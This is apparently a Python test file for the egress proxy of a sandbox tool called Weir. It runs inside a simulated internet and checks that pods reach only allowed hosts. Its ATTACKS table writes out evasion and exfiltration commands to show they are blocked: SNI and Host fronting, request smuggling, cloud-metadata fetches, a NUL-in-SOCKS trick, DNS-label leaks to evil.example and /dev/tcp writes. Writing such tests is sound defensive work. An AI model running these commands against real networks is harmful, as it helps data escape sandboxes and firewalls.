#!/usr/bin/env python3
"""Programs in a pod with a way out, and attacks on it: egress_clients.py DIRECTORY_OF_THE_PROGRAMS

Everything happens in namespaces that this test makes: one network is the host's, where Weir runs, another is "the internet"
(egress_internet.py), joined by a pair of virtual interfaces. Names are in a hosts file that only this test sees, read by the
system's own resolver. What got out is judged by the servers' log; a hostile program that gets through reaches those
servers and nothing else.
"""

import json
import os
import pathlib
import shutil
import signal
import subprocess
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "support"))  # clients.py
from clients import Skip, in_namespaces, run_tests

HERE = pathlib.Path(__file__).resolve().parent
HOSTS = """127.0.0.1 localhost
93.184.216.34 a.example b.example www.a.example git.example
93.184.216.35 evil.example c2vjcmv0.evil.example
10.7.7.7 nas.example
127.0.0.1 inner.example
169.254.169.254 metadata.example
93.184.216.34 mixed.example
10.7.7.7 mixed.example
"""


def run(*argv, **more):
    return subprocess.run([str(a) for a in argv], check=True, capture_output=True, text=True, **more)


class World:
    hosts = HOSTS
    names = ("a.example", "b.example", "nas.example", "evil.example", "mixed.example")  # of the servers' certificate
    internet_program = HERE / "egress_internet.py"

    def __init__(self, programs, top, always=()):
        self.always = always  # options of every pod
        self.weir = pathlib.Path(programs).resolve() / "weir"
        self.top = top
        self.project = top / "project"
        self.project.mkdir()
        self.make_certificates()
        self.make_site()
        self.make_networks()

    def make_certificates(self):
        tls = self.top / "tls"
        tls.mkdir()
        (tls / "names").write_text("subjectAltName=" + ",".join("DNS:" + name for name in self.names))
        run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=Small Root", "-days", "2", "-keyout", tls / "root.key", "-out",
            tls / "root.pem")
        run("openssl", "req", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=a.example", "-keyout", tls / "site.key", "-out", tls / "site.csr")
        run("openssl", "x509", "-req", "-in", tls / "site.csr", "-CA", tls / "root.pem", "-CAkey", tls / "root.key", "-CAcreateserial", "-days",
            "2", "-extfile", tls / "names", "-out", tls / "site.pem")
        shutil.copy(tls / "root.pem", self.project / "root.pem")

    def make_site(self):
        www = self.top / "www"
        www.mkdir()
        (www / "hello").write_text("hello from outside\n")
        (www / "large").write_bytes(b"0123456789abcdef" * 65536 * 4)
        if shutil.which("git"):
            source = self.top / "source"
            git = ["git", "-c", "user.name=T", "-c", "user.email=t@example.org", "-C", source]
            run("git", "init", "-q", source)
            (source / "file").write_text("cloned\n")
            run(*git, "add", "file")
            run(*git, "commit", "-qm", "One")
            run("git", "clone", "-q", "--bare", source, www / "repo.git")
            run("git", "-C", www / "repo.git", "update-server-info")

    def make_networks(self):
        (self.top / "hosts").write_text(self.hosts)
        run("mount", "--bind", self.top / "hosts", "/etc/hosts")
        # A name server that logs and never answers.
        (self.top / "resolv.conf").write_text("nameserver 8.8.8.8\noptions timeout:1 attempts:1\n")
        run("mount", "--bind", self.top / "resolv.conf", os.path.realpath("/etc/resolv.conf"))
        run("ip", "link", "set", "lo", "up")
        self.internet = subprocess.Popen(["unshare", "-n", "sh", "-c", f"echo up; read go; ip link set lo up; ip link set wan1 up; ip route add default dev wan1;"
                                          "for a in 93.184.216.34 93.184.216.35 10.7.7.7 169.254.169.254 8.8.8.8 9.9.9.9; do ip addr add $a/32 dev lo; done;"
                                          "ip addr add 192.0.2.2/32 dev wan1;"
                                          f"exec python3 {self.internet_program} {self.top}"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        self.internet.stdout.readline()
        run("ip", "link", "add", "wan0", "type", "veth", "peer", "name", "wan1", "netns", str(self.internet.pid))
        run("ip", "addr", "add", "192.0.2.1/32", "dev", "wan0")
        run("ip", "link", "set", "wan0", "up")
        run("ip", "route", "add", "default", "dev", "wan0", "src", "192.0.2.1")
        self.internet.stdin.write("go\n")
        self.internet.stdin.flush()
        for _ in range(200):
            if (self.top / "ready").exists():
                return
            time.sleep(0.05)
        raise SystemExit("the small internet does not start")

    def close(self):
        self.internet.terminate()
        subprocess.run(["umount", "/etc/hosts", os.path.realpath("/etc/resolv.conf")])

    def argv(self, script, *options):
        return [str(self.weir), "pod", "exec", *self.always, *options, "--", "bash", "-c", script]

    def environment(self):
        return {**os.environ, "WEIR_HOME": str(self.top / "weir"), "HOME": str(self.top / "home")}

    def pod(self, script, *options):
        """How it ended, and what reached the internet meanwhile."""
        return self.watched(self.argv(script, *options))

    def outside(self, script):
        """The same without a pod, where something is expected to arrive."""
        return self.watched(["bash", "-c", script], patience_s=5)

    def watched(self, argv, patience_s=0):
        log = self.top / "reached.jsonl"
        log.unlink(missing_ok=True)
        done = subprocess.run(argv, cwd=self.project, env=self.environment(), capture_output=True, text=True, timeout=180)
        until = time.monotonic() + patience_s
        time.sleep(0.05)
        while not log.exists() and time.monotonic() < until:
            time.sleep(0.05)
        reached = [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
        return done, reached


def says(world, options, script, *expected):
    done, reached = world.pod(script, *options)
    for text in expected:
        assert text in done.stdout, (script, text, done.stdout[-1500:], done.stderr[-1500:])
    return done, reached


ALLOW_A = ("--allow", "a.example")


def usual_clients(world):
    says(world, ALLOW_A, "curl -sS --cacert root.pem https://a.example/hello; curl -sS http://a.example/hello | tr h H", "hello from outside", "Hello from outside")
    says(world, ALLOW_A, "curl -sS --cacert root.pem https://a.example/large | wc -c; head -c 3000000 /dev/zero | curl -sS --cacert root.pem -T - -X POST https://a.example/x",
         str(4 << 20), "got 3000000")
    says(world, ALLOW_A, """python3 - <<'P'
import ssl, urllib.request
print(urllib.request.urlopen("http://a.example/hello").read())
print(urllib.request.urlopen("https://a.example/hello", context=ssl.create_default_context(cafile="root.pem")).read())
P""", "b'hello from outside\\n'\nb'hello from outside\\n'")


def other_kinds_of_tls(world):
    """A server that answers HelloRetryRequest, TLS 1.2, and sessions that are taken up again."""
    ports = ("--allow", "a.example:8443", "--allow", "a.example:8444")
    done, reached = says(world, ports, """for p in 8443 8444; do curl -sS --cacert root.pem https://a.example:$p/hello; done
python3 - <<'P'
import socket, ssl
context = ssl.create_default_context(cafile="root.pem")
context.maximum_version = ssl.TLSVersion.TLSv1_2
session = None
for _ in range(2):
    with context.wrap_socket(socket.create_connection(("a.example", 8444)), server_hostname="a.example", session=session) as s:
        s.sendall(b"GET /hello HTTP/1.1\\r\\nHost: a.example\\r\\nConnection: close\\r\\n\\r\\n")
        print(s.session_reused, b"hello from outside" in s.makefile("rb").read())
        session = s.session
P
openssl s_client -connect a.example:8443 -servername a.example -CAfile root.pem -trace < /dev/null 2>&1 | grep -c 'ClientHello, Length'""",
                         "hello from outside\nhello from outside\nFalse True\nTrue True\n2\n")
    assert {one.get("sni") for one in reached} == {"a.example"}, reached


def requests_of_python(world):
    if subprocess.run([sys.executable, "-c", "import requests"], capture_output=True).returncode != 0:
        raise Skip("requests is not here")
    shown = () if sys.prefix == "/usr" else ("--ro", sys.prefix)
    says(world, (*ALLOW_A, *shown), sys.executable + """ - <<'P'
import requests
with requests.Session() as session:
    session.verify = "root.pem"
    for url in ("https://a.example/hello", "https://a.example/hello", "http://a.example/hello"):
        print(session.get(url).text.strip())
    print(session.post("http://a.example/x", data=(b"x" * 1000 for _ in range(5))).text.strip())
    for url in ("https://b.example/hello", "http://evil.example/"):
        try:
            session.get(url, timeout=5)
        except requests.ConnectionError as error:
            print("refused", "resolve" in str(error))
P""", "hello from outside\nhello from outside\nhello from outside\ngot 5000\nrefused True\nrefused True")


def fetch_of_node(world):
    if not shutil.which("node"):
        raise Skip("node is not here")
    says(world, (*ALLOW_A, "--profile", "node"), """NODE_EXTRA_CA_CERTS=root.pem node -e '
(async () => {
  for (const url of ["https://a.example/hello", "http://a.example/hello"]) console.log((await (await fetch(url)).text()).trim());
  await fetch("https://evil.example/").catch((error) => console.log(error.cause.code));
})()'""", "hello from outside\nhello from outside\nENOTFOUND")


def git_clones(world):
    if not shutil.which("git"):
        raise Skip("git is not here")
    says(world, ALLOW_A, "git clone -q http://a.example/repo.git here && cat here/file", "cloned")
    says(world, ALLOW_A, "git -c http.sslCAInfo=root.pem clone -q https://a.example/repo.git there && cat there/file", "cloned")


def through_the_proxies(world):
    done, reached = says(world, ALLOW_A, """
curl -sS -x http://127.0.0.1:3128 --cacert root.pem https://a.example/hello
curl -sS -x http://127.0.0.1:3128 -U secret:secret http://a.example/hello http://a.example/hello
curl -sS --socks5-hostname 127.0.0.1:1080 --cacert root.pem https://a.example/hello
curl -sS --socks5 127.0.0.1:1080 http://a.example/hello
""", "hello from outside\n" * 5)
    assert not any(one.get("proxy_fields") for one in reached), reached


def any_protocol_at_its_port(world):
    script = """python3 -c '
import socket
s = socket.create_connection(("a.example", 22)); print(s.recv(100)); s.sendall(b"key exchange"); print(s.recv(100))'"""
    says(world, ("--allow", "a.example:22"), script, "SSH-2.0-small", "you said key exchange")
    done, reached = world.pod(script, *ALLOW_A)
    assert done.returncode != 0 and reached == [], (done, reached)


def private_destinations(world):
    fetch = "curl -sS --cacert root.pem https://nas.example/hello"
    says(world, ("--allow-private", "nas.example:443"), fetch, "hello from outside")
    done, reached = world.pod(fetch, "--allow", "nas.example")
    assert done.returncode != 0 and reached == [], (done, reached)
    assert "--allow-private nas.example:443" in done.stderr, done.stderr


def the_hosts_loopback(world):
    """One port that was named, and not the one beside it."""
    with subprocess.Popen([sys.executable, "-m", "http.server", "18080", "--bind", "127.0.0.1", "-d", world.top / "www"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as model, \
            subprocess.Popen([sys.executable, "-m", "http.server", "18081", "--bind", "127.0.0.1", "-d", world.top / "www"], stdout=subprocess.DEVNULL,
                             stderr=subprocess.PIPE, text=True) as other:
        try:
            for port in (18080, 18081):
                run("curl", "-sS", "--retry", "20", "--retry-delay", "1", "--retry-connrefused", f"http://127.0.0.1:{port}/hello")
            other.stderr.readline()  # that request
            done, _ = says(world, ("--allow", "localhost:18080", "--allow", "a.example:18081", "--allow", "inner.example:18081"), """
curl -sS -m 9 http://localhost:18080/hello
for url in http://localhost:18081/hello http://127.0.0.1:18081/ http://inner.example:18081/ http://192.0.2.1:18081/ http://[::1]:18081/ \
           http://[::ffff:127.0.0.1]:18081/ http://0:18081/ http://127.1:18081/; do
  curl -sS -m 9 $url; curl -sS -m 9 -x http://127.0.0.1:3128 $url; curl -sS -m 9 --socks5-hostname 127.0.0.1:1080 $url
done; true""", "hello from outside\n")
            assert done.stdout.count("hello from outside") == 1, done.stdout
        finally:
            model.terminate()
            other.terminate()
        assert other.stderr.read() == "", "the other port was reached"


ATTACKS = {
    "a name that is not allowed": "curl -sS -m 5 http://evil.example/; curl -sSk -m 5 https://evil.example/",
    "its address": "curl -sSk -m 5 https://93.184.216.35/; curl -sS -m 5 http://93.184.216.35/; curl -sSk -m 5 https://93.184.216.34/",
    "another port": "curl -sS -m 5 telnet://a.example:22 < /dev/null",
    "fronting by SNI": "curl -sSk -m 5 --connect-to b.example:443:a.example:443 https://b.example/hello",
    "fronting by SNI in a tunnel": "curl -sSk -m 5 -x http://127.0.0.1:3128 --connect-to b.example:443:a.example:443 https://b.example/hello",
    "fronting by Host": "curl -sS -m 5 -H 'Host: b.example' http://a.example/hello",
    "fronting by Host in a tunnel": "curl -sS -m 5 -p -x http://127.0.0.1:3128 -H 'Host: b.example' http://a.example/hello",
    "fronting by Host and URL": "curl -sS -m 5 -x http://127.0.0.1:3128 -H 'Host: b.example' http://a.example/hello",
    "no SNI": "python3 -c 'import socket, ssl; c = ssl._create_unverified_context(); c.wrap_socket(socket.create_connection((\"a.example\", 443)))'",
    "a second request": "printf 'POST /x HTTP/1.1\\r\\nHost: a.example\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /hello HTTP/1.1\\r\\n"
                        "Host: b.example\\r\\n\\r\\n' | curl -sS -m 2 telnet://a.example:80",
    "a relayed CONNECT": "curl -sSk -m 5 -p -x http://a.example:80 https://evil.example/",
    "HTTP/2 without TLS": "curl -sS -m 5 --http2-prior-knowledge http://a.example/hello",
    "an upgrade to h2c": "curl -sS -m 5 --http2 http://a.example/hello",
    "a NUL in a SOCKS name": "python3 -c '\nimport socket\ns = socket.create_connection((\"127.0.0.1\", 1080))\nh = b\"evil.example\\0.a.example\"\n"
                             "s.sendall(b\"\\5\\1\\0\\5\\1\\0\\3\" + bytes([len(h)]) + h + b\"\\0\\x50GET / HTTP/1.0\\r\\n\\r\\n\"); print(s.recv(99), s.recv(99))'",
    "other forms of addresses": "for h in 0x5db8d823 1572395043 0135.0270.0330.043 93.184.55331; do curl -sS -m 5 -x http://127.0.0.1:3128 http://$h/; "
                                "curl -sS -m 5 --socks5-hostname 127.0.0.1:1080 http://$h/; curl -sS -m 5 http://$h/; done",
    "metadata": "curl -sS -m 5 http://169.254.169.254/; curl -sS -m 5 -x http://127.0.0.1:3128 http://169.254.169.254/; curl -sS -m 5 http://metadata.example/",
    "names that carry": "for n in c2VjcmV0.evil.example c2VjcmV0.a.example; do getent hosts $n; done; "
                        "python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(bytes(12), (\"8.8.8.8\", 53)); s.sendto(b\"secret\", (\"9.9.9.9\", 53)); "
                        "s.sendto(b\"secret\", (\"9.9.9.9\", 5353))'",
    "garbage": "for p in 53 80 443 1080 3128; do head -c 100000 /dev/urandom | timeout 5 bash -c \"cat > /dev/tcp/198.18.0.1/$p\"; head -c 2000 /dev/urandom | "
               "timeout 5 bash -c \"cat > /dev/tcp/127.0.0.1/$p\"; done",
}


# What reaches a server when there is no pod around it; the others need the pod's own proxies or have no server that would log them.
DIRECT = ("a name that is not allowed", "its address", "another port", "fronting by SNI", "fronting by Host", "no SNI", "a second request", "a relayed CONNECT",
          "metadata", "names that carry")


def attacks(world):
    """Outside of the pod they get through, so that the test could notice; inside nothing arrives."""
    for name in DIRECT:
        done, reached = world.outside(ATTACKS[name])
        assert reached != [], (name, done)
    for name, script in ATTACKS.items():
        done, reached = world.pod(script + "; true", *ALLOW_A, "--allow", "metadata.example")
        assert reached == [] and "hello from outside" not in done.stdout, (name, reached, done.stdout, done.stderr)
        assert "egress proxy failed" not in done.stderr, (name, done.stderr)


def mixed_answers(world):
    """A public and a private address: only the public one is dialled."""
    done, reached = says(world, ("--allow", "mixed.example"), "for i in 1 2 3 4 5 6; do curl -sS http://mixed.example/hello; done", "hello from outside\n" * 6)
    assert {one["place"] for one in reached} == {"93.184.216.34"}, reached


def what_is_told(world):
    done, _ = world.pod("for i in 1 2 3; do curl -sS http://evil.example/; done; curl -sS http://93.184.216.35/; curl -sS http://a.example/hello", *ALLOW_A)
    told = [line for line in done.stderr.splitlines() if line.startswith("weir: egress")]
    assert len(told) == 2 and "--allow evil.example" in told[0] and "93.184.216.35" in told[1], done.stderr
    done, _ = world.pod("curl -sS http://a.example/hello; curl -sS http://evil.example/", *ALLOW_A, "--json")
    egress = json.loads(done.stderr.splitlines()[-1])["egress"]
    [one] = egress["reached"]
    assert (one["host"], one["port"], one["connections"], one["addresses"]) == ("a.example", 80, 1, ["93.184.216.34"]), egress
    assert one["received"] > 18 and egress["refused"][0]["host"] == "evil.example", egress
    assert egress["problem"] == "" and "seccomp" in egress["walls"], egress
    assert "/hello" not in json.dumps(egress), "paths are nobody's business"


def budgets(world):
    done, reached = world.pod("head -c 3000000 /dev/zero | curl -sS --cacert root.pem -T - -X POST https://a.example/x; curl -sS http://a.example/hello", *ALLOW_A,
                              "--limits", "sent=100K")
    assert sum(one.get("bytes", 0) for one in reached) < 100 << 10 and done.returncode != 0, (reached, done)
    assert all(one.get("path", "/x") == "/x" for one in reached) and "budget" in done.stderr, (reached, done.stderr)


def thousand_connections(world):
    says(world, ALLOW_A, """python3 - <<'P'
import socket
idle = [socket.create_connection(("a.example", 80)) for _ in range(1000)]
for one in idle: one.sendall(b"GET /hello HTTP/1.1\\r\\nHost: a.ex")
more = socket.create_connection(("127.0.0.1", 3128)); more.sendall(b"GET http://a.example/hello HTTP/1.1\\r\\n\\r\\n")
print(more.makefile("rb").read()[-19:])
for one in idle[:50]: one.sendall(b"ample\\r\\nConnection: close\\r\\n\\r\\n")
print(sum(b"hello from outside" in one.makefile("rb").read() for one in idle[:50]))
P""", "hello from outside", "\n50\n")


def egress_process_of(supervisor):
    """Its number, once its walls stand."""
    for _ in range(200):
        number = child_with_the_argument(supervisor)
        if number and "Seccomp:\t2" in pathlib.Path(f"/proc/{number}/status").read_text():
            return number
        time.sleep(0.05)
    raise AssertionError("there is no egress process, or it has no filter")


def child_with_the_argument(supervisor):
    for entry in pathlib.Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and int((entry / "stat").read_text().rsplit(") ", 1)[1].split()[1]) == supervisor \
                    and b"--internal-egress-proxy" in (entry / "cmdline").read_bytes():
                return int(entry.name)
        except (FileNotFoundError, ProcessLookupError):
            pass
    return None


def the_proxy_starts_with_the_first_who_asks(world):
    running = subprocess.Popen(world.argv("read go; curl -sS http://a.example/hello; echo; read on", *ALLOW_A), cwd=world.project, env=world.environment(),
                               stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    time.sleep(0.3)
    assert child_with_the_argument(running.pid) is None, "it runs although nobody wants out"
    running.stdin.write("go\n")
    running.stdin.flush()
    assert "hello from outside" in running.stdout.readline()
    assert child_with_the_argument(running.pid), "there is no egress process"
    running.communicate("on\n", timeout=60)


def a_dead_proxy_lets_nothing_out(world):
    running = subprocess.Popen(world.argv("curl -s http://a.example/hello > /dev/null; read go; curl -sS -m 5 http://a.example/hello; echo ended $?", *ALLOW_A), cwd=world.project, env=world.environment(),
                               stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    os.kill(egress_process_of(running.pid), signal.SIGKILL)
    out, err = running.communicate("go\n", timeout=60)
    assert "ended 0" not in out and "hello" not in out and "egress proxy failed" in err, (out, err)


def the_proxy_dies_with_its_supervisor(world):
    running = subprocess.Popen(world.argv("curl -s http://a.example/hello; sleep 60", *ALLOW_A), stdout=subprocess.DEVNULL, cwd=world.project, env=world.environment())
    proxy = egress_process_of(running.pid)
    status = pathlib.Path(f"/proc/{proxy}/status").read_text()
    assert "NoNewPrivs:\t1" in status, status
    running.kill()
    running.wait()
    for _ in range(50):
        status = pathlib.Path(f"/proc/{proxy}/status")
        if not status.exists() or "State:\tZ" in status.read_text():
            return
        time.sleep(0.1)
    raise AssertionError("the proxy lives on")


def mistakes(world):
    for wrong, hint in (("https://a.example", "HOST[:PORT]"), ("localhost", "PORT"), ("*", "*.example.org"), ("169.254.169.254", "--allow-private"),
                        ("a.example:53", "cannot be allowed"), ("0x7f.1", "decimal")):
        done, reached = world.pod("true", "--allow", wrong)
        assert done.returncode == 125 and hint in done.stderr and len(done.stderr.splitlines()) == 1, (wrong, done)


TESTS = [usual_clients, other_kinds_of_tls, requests_of_python, fetch_of_node, git_clones, through_the_proxies, any_protocol_at_its_port, private_destinations, the_hosts_loopback,
         attacks, mixed_answers, what_is_told, budgets, thousand_connections, the_proxy_starts_with_the_first_who_asks, a_dead_proxy_lets_nothing_out, the_proxy_dies_with_its_supervisor, mistakes]


CABLE = "ip link add wan0 type veth peer name wan1"  # what the networks need


def main(tests, always=()):
    return in_namespaces(lambda: run_tests(tests, lambda programs, top: World(programs, top, always)), CABLE)


if __name__ == "__main__":
    sys.exit(main(TESTS))
